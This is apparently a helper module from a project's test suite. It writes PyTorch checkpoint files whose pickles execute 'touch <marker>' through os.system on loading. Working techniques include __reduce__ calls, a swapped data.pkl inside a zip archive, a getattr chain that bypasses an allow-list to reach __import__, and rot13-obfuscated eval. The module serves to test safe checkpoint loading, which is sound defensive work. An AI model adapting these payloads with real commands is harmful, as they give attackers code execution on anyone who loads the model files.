# Copyright (c) vicmae_mm contributors. All rights reserved.
"""Checkpoints whose pickle runs ``touch <marker>`` when fully unpickled.

Not a test module. Each writer makes a file that ``torch.load(...,
weights_only=False)`` would execute (checked by the suite, so a payload
that silently stopped working would fail the tests), hidden in a different
place: a plain ``__reduce__``, the legacy (non-zip) format, a numpy object
array, a rewritten ``data.pkl`` inside a valid torch zip archive, a chain
of ``getattr`` calls from an allow-listed class to ``os.system``, and code
obfuscated with the allow-listed ``_codecs.encode``.
"""
import codecs
import os
import pickle
import zipfile
from typing import Callable, Dict

import numpy as np
import torch
from mmengine.logging.history_buffer import HistoryBuffer


class Call:
    """Pickles as ``func(*args)`` (``func`` may itself be a ``Call``)."""

    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __call__(self, *args):  # pickle requires a callable in reduce
        raise RuntimeError('only meant to be pickled')

    def __reduce__(self):
        return self.func, self.args


def _touch(marker: str) -> Call:
    return Call(os.system, f'touch {marker}')


def _state() -> dict:
    return {
        'state_dict': {
            'backbone.w': torch.zeros(2)
        },
        'meta': {
            'epoch': 1,
            'iter': 4
        }
    }


def reduce_payload(path: str, marker: str) -> None:
    torch.save(dict(_state(), meta=_touch(marker)), path)


def legacy_format_payload(path: str, marker: str) -> None:
    torch.save(
        dict(_state(), meta=_touch(marker)),
        path,
        _use_new_zipfile_serialization=False)


def numpy_object_array_payload(path: str, marker: str) -> None:
    hidden = np.array([1.0, _touch(marker)], dtype=object)
    torch.save(dict(_state(), message_hub={'log_scalars': hidden}), path)


def rewritten_data_pkl_payload(path: str, marker: str) -> None:
    """A genuine torch archive whose ``data.pkl`` was swapped afterwards."""
    clean = path + '.clean'
    torch.save(_state(), clean)
    with zipfile.ZipFile(clean) as src, zipfile.ZipFile(path, 'w') as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename.endswith('/data.pkl'):
                # no tensors: the storages stay those of the clean file
                data = pickle.dumps({'meta': _touch(marker)}, protocol=2)
            dst.writestr(info, data)
    os.remove(clean)


def getattr_chain_payload(path: str, marker: str) -> None:
    """getattr(HistoryBuffer, 'min').__globals__['__builtins__']
    ['__import__']('os').system(...), all through pickled calls."""
    func = Call(getattr, HistoryBuffer, 'min')  # allowed step
    module_globals = Call(getattr, func, '__globals__')
    builtins_ = Call(Call(getattr, module_globals, 'get'), '__builtins__')
    import_ = Call(Call(getattr, builtins_, 'get'), '__import__')
    system = Call(getattr, Call(import_, 'os'), 'system')
    torch.save(dict(_state(), meta=Call(system, f'touch {marker}')), path)


def codecs_payload(path: str, marker: str) -> None:
    """eval() of rot13-obfuscated code decoded by ``_codecs.encode``."""
    code = codecs.encode(f"__import__('os').system('touch {marker}')", 'rot13')
    torch.save(
        dict(_state(), meta=Call(eval, Call(codecs.encode, code, 'rot13'))),
        path)


PAYLOADS: Dict[str, Callable[[str, str], None]] = {
    'reduce -> os.system': reduce_payload,
    'legacy (non-zip) format': legacy_format_payload,
    'numpy object array': numpy_object_array_payload,
    'zip with a rewritten data.pkl': rewritten_data_pkl_payload,
    'getattr chain to __globals__': getattr_chain_payload,
    '_codecs.encode + eval': codecs_payload,
}
